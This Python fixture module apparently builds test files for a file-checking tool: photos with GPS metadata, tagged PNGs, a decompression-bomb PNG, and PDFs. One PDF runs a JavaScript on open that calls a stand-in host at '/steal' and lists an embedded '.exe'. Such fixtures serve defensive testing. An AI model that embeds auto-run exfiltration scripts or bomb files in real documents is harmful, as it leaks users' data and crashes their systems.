"""Files that people send: honest ones, and those that are not what they say."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence
from typing import Any

from PIL import Image
from PIL.TiffImagePlugin import IFDRational

SECRET = "31.2304N-MARK"
SCRIPT = "app.launchURL('http://203.0.113.9/steal')"


def picture(size: tuple[int, int] = (600, 800), mode: str = "RGB") -> Any:
    """Something to be seen."""
    return Image.effect_noise(size, 70).convert(mode)


def encoded(image: Any, kind: str, **more: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def photo_of_a_place() -> bytes:
    """With the camera's words, a thumbnail's place for more, and where it was taken; lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = SECRET  # maker
    exif[0x8825] = {
        1: "N", 2: (IFDRational(31), IFDRational(13), IFDRational(48)),
        3: "E", 4: (IFDRational(121), IFDRational(28), IFDRational(24)),
        29: SECRET,
    }  # fmt: skip
    return encoded(picture((800, 600)), "JPEG", exif=exif, comment=SECRET.encode())


def png_with_words() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", SECRET)
    info.add_itxt("XML:com.adobe.xmp", f"<x>{SECRET}</x>")
    return encoded(picture(mode="RGBA"), "PNG", pnginfo=info)


def bomb_png(side: int = 30_000) -> bytes:
    """A few kilobytes that unfold to gigabytes."""
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(b"\0" * (side // 8 + 1)) for _row in range(side)) + rows.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    )


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def pdf(
    pages: int = 1, *, box: tuple[int, int] = (300, 400), extra: Sequence[tuple[str, str]] = ()
) -> bytes:
    """A picture on each page; `extra` are entries of the catalogue, each with an object of its own."""
    jpeg = encoded(picture((300, 400)), "JPEG")
    objects: list[bytes] = []
    kids = " ".join(f"{3 + 2 * number} 0 R" for number in range(pages))
    image, first_extra = 3 + 2 * pages, 4 + 2 * pages
    named = " ".join(f"/{name} {first_extra + at} 0 R" for at, (name, _body) in enumerate(extra))
    objects.append(f"<</Type/Catalog/Pages 2 0 R {named}>>".encode())
    objects.append(f"<</Type/Pages/Kids[{kids}]/Count {pages}>>".encode())
    for number in range(pages):
        drawn = f"q {box[0]} 0 0 {box[1]} 0 0 cm /I Do Q".encode()
        objects.append(
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {box[0]} {box[1]}]"
            f"/Resources<</XObject<</I {image} 0 R>>>>/Contents {4 + 2 * number} 0 R>>".encode()
        )
        objects.append(_stream("", drawn))
    objects.append(
        _stream(
            "/Type/XObject/Subtype/Image/Width 300/Height 400/ColorSpace/DeviceRGB"
            "/BitsPerComponent 8/Filter/DCTDecode",
            jpeg,
        )
    )
    objects += [body.encode() for _name, body in extra]
    return _file(objects)


def pdf_with_everything() -> bytes:
    """Runs a script when it is opened, carries a file, and says who wrote it."""
    return pdf(
        extra=[
            ("OpenAction", f"<</S/JavaScript/JS({SCRIPT.replace('(', '[').replace(')', ']')})>>"),
            ("Names", f"<</EmbeddedFiles<</Names[({SECRET}.exe)<</Type/Filespec/F({SECRET})>>]>>>>"),
            ("Metadata", f"<</Author({SECRET})/Producer({SECRET})>>"),
        ]
    )  # fmt: skip


def pdf_locked() -> bytes:
    """Says that it is encrypted."""
    body = pdf()
    lock = (
        b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<"
        + b"28" * 32 + b">/U<" + b"29" * 32 + b">>>/ID[<01><01>]"
    )  # fmt: skip
    return body.replace(b"/Root 1 0 R", b"/Root 1 0 R" + lock)


def _stream(said: str, body: bytes) -> bytes:
    return f"<<{said}/Length {len(body)}>>\nstream\n".encode() + body + b"\nendstream"


def _file(objects: list[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)
